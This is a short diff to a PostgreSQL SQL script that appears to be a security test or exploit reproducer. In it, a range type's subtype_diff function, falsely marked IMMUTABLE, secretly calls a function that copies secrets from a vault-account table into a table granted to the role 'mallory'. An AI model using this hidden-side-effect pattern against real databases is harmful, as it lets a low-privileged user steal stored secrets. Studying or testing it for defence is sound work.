@@ -9,5 +9,6 @@ GRANT ALL ON kept_by_me TO mallory;
 CREATE FUNCTION copies() RETURNS void LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.kept_by_me SELECT secret FROM public.vlt_account; END $$;
 CREATE FUNCTION apart(a int, b int) RETURNS float8 LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM public.copies(); RETURN a - b; END $$;
 CREATE TYPE spans AS RANGE (subtype = int, subtype_diff = apart);
-CREATE TABLE ranged (s spans);
-INSERT INTO ranged SELECT spans(n, n + 5) FROM generate_series(1, 50) n;
+CREATE TABLE ranged (id int);
+ALTER TABLE ranged ADD s spans;
+INSERT INTO ranged (s) SELECT spans(n, n + 5) FROM generate_series(1, 50) n;
